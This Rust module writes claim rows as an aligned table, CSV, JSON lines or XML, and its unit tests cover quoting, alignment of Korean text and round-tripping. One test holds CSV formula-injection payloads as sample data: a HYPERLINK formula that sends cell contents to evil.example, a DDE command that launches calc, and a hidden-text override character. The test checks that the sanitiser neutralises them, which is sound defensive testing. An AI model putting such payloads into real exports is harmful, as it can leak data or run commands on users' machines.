//! Writing rows: a table for people, CSV and JSON lines for tools, XML as SSG answers.

use std::io::Write;

use claims_wire::sheet::{reveal, spreadsheet_cell};
use claims_wire::{COST_FIELDS, Format, ROW_FIELDS, WireRow, encode_wire_rows};
use unicode_width::UnicodeWidthStr;

/// How rows are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputFormat {
    /// Aligned columns of the fields people look at.
    Table,
    /// Every field; one line per cost line (`cstInfo.*` columns), so a row with one cost
    /// line is one line. Safe to open in a spreadsheet: see [`spreadsheet_cell`].
    Csv,
    /// One JSON object per row, shaped like the API's `data` elements.
    Jsonl,
    /// One complete `<result>` answer, as the API writes it.
    Xml,
}

pub fn write_rows(
    format: OutputFormat,
    rows: &[WireRow],
    out: &mut impl Write,
) -> std::io::Result<()> {
    match format {
        OutputFormat::Table => table(rows, out),
        OutputFormat::Csv => csv(rows, out),
        OutputFormat::Jsonl => {
            for row in rows {
                serde_json::to_writer(&mut *out, row)?;
                out.write_all(b"\n")?;
            }
            Ok(())
        }
        OutputFormat::Xml => {
            out.write_all(&encode_wire_rows(Format::Xml, rows))?;
            out.write_all(b"\n")
        }
    }
}

fn csv(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
    let mut writer = ::csv::Writer::from_writer(out);
    let mut header: Vec<String> = ROW_FIELDS.iter().map(|name| (*name).to_owned()).collect();
    header.extend(COST_FIELDS.iter().map(|name| format!("cstInfo.{name}")));
    writer.write_record(&header)?;
    for row in rows {
        let fields: Vec<_> = row
            .fields()
            .iter()
            .map(|(_, value)| spreadsheet_cell(value))
            .collect();
        if row.cst_info.is_empty() {
            let mut record = fields.clone();
            record.extend(std::iter::repeat_n("".into(), COST_FIELDS.len()));
            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
        }
        for cost in &row.cst_info {
            let mut record = fields.clone();
            record.extend(
                cost.fields()
                    .iter()
                    .map(|(_, value)| spreadsheet_cell(value)),
            );
            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
        }
    }
    writer.flush()
}

fn table(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
    let header = [
        "ordCnclDts",
        "ordNo",
        "seq",
        "orordNo",
        "seq",
        "item",
        "qty",
        "reason",
        "fault",
        "discount",
        "shipping",
    ];
    let lines: Vec<[String; 11]> = rows
        .iter()
        .map(|row| {
            let cost = row.cst_info.first();
            let amount = |pick: fn(&claims_wire::WireCost) -> &String| {
                cost.map(pick).cloned().unwrap_or_default()
            };
            [
                row.ord_cncl_dts.clone(),
                row.ord_no.clone(),
                row.ord_item_seq.clone(),
                row.oror_no.clone(),
                row.oror_item_seq.clone(),
                row.item_nm.clone(),
                format!("{}/{}", row.cncl_item_qty, row.dirc_item_qty),
                row.clm_rsn_nm.clone(),
                row.impt_div_cd.clone(),
                amount(|c| &c.spl_ven_bdn_dc_amt),
                amount(|c| &c.shpmt_shppcst),
            ]
        })
        .collect();
    let widths: Vec<usize> = (0..header.len())
        .map(|i| {
            lines
                .iter()
                .map(|line| reveal(&line[i]).width().min(40))
                .chain([header[i].width()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let render = |cells: Vec<&str>| -> String {
        let mut line = String::new();
        for (i, cell) in cells.iter().enumerate() {
            let mut text: String = reveal(cell).into_owned();
            if text.width() > 40 {
                text = text.chars().take(38).collect::<String>() + "…";
            }
            line.push_str(&text);
            if i + 1 < cells.len() {
                line.push_str(&" ".repeat(widths[i].saturating_sub(text.width()) + 2));
            }
        }
        line
    };
    writeln!(out, "{}", render(header.to_vec()))?;
    for line in &lines {
        writeln!(out, "{}", render(line.iter().map(String::as_str).collect()))?;
    }
    writeln!(out, "{} row(s)", rows.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use claims_wire::WireCost;

    fn sample() -> Vec<WireRow> {
        vec![WireRow {
            ordpe_nm: "홍길동".into(),
            ord_no: "20261122000B07".into(),
            ord_item_seq: "1".into(),
            item_nm: "M&M's, \"대용량\"".into(),
            clm_rsn_cntt: "두 줄\n사유".into(),
            cst_info: vec![WireCost {
                spl_ven_bdn_dc_amt: "500".into(),
                spl_ven_id: "0000012345".into(),
                ..WireCost::default()
            }],
            ..WireRow::default()
        }]
    }

    #[test]
    fn csv_quotes_what_needs_quoting_and_reads_back() {
        let mut out = Vec::new();
        write_rows(OutputFormat::Csv, &sample(), &mut out).unwrap();
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        let headers = reader.headers().unwrap().clone();
        assert_eq!(headers.len(), ROW_FIELDS.len() + COST_FIELDS.len());
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
        assert_eq!(&records[0][column("itemNm")], "M&M's, \"대용량\"");
        assert_eq!(&records[0][column("clmRsnCntt")], "두 줄\n사유");
        assert_eq!(&records[0][column("cstInfo.splVenBdnDcAmt")], "500");
    }

    #[test]
    fn csv_cells_cannot_act_as_formulas_or_hide_text() {
        let mut rows = sample();
        rows[0].ordpe_nm = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
        rows[0].clm_rsn_cntt = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        rows[0].item_nm = "우유\u{202E}1L".into();
        let mut out = Vec::new();
        write_rows(OutputFormat::Csv, &rows, &mut out).unwrap();
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
                assert!(!cell.contains('\u{202E}'), "{cell:?}");
            }
        }
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("'=HYPERLINK("), "{text}");
        assert!(text.contains("우유<U+202E>1L"), "{text}");
    }

    #[test]
    fn tables_show_hidden_characters() {
        let mut rows = sample();
        rows[0].item_nm = "우유\u{200B}1L".into();
        let mut out = Vec::new();
        write_rows(OutputFormat::Table, &rows, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("우유<U+200B>1L"), "{text}");
    }

    #[test]
    fn jsonl_and_xml_read_back() {
        let rows = sample();
        let mut out = Vec::new();
        write_rows(OutputFormat::Jsonl, &rows, &mut out).unwrap();
        let parsed: WireRow =
            serde_json::from_slice(out.split(|&b| b == b'\n').next().unwrap()).unwrap();
        assert_eq!(parsed, rows[0]);
        let mut xml = Vec::new();
        write_rows(OutputFormat::Xml, &rows, &mut xml).unwrap();
        let answer = claims_wire::decode_answer(Format::Xml, xml.trim_ascii_end()).unwrap();
        assert_eq!(answer.rows, rows);
    }

    #[test]
    fn tables_align_korean_text() {
        let mut out = Vec::new();
        write_rows(OutputFormat::Table, &sample(), &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.ends_with("1 row(s)\n"));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0].find("item"), lines[1].find("M&M"), "{text}");
    }
}
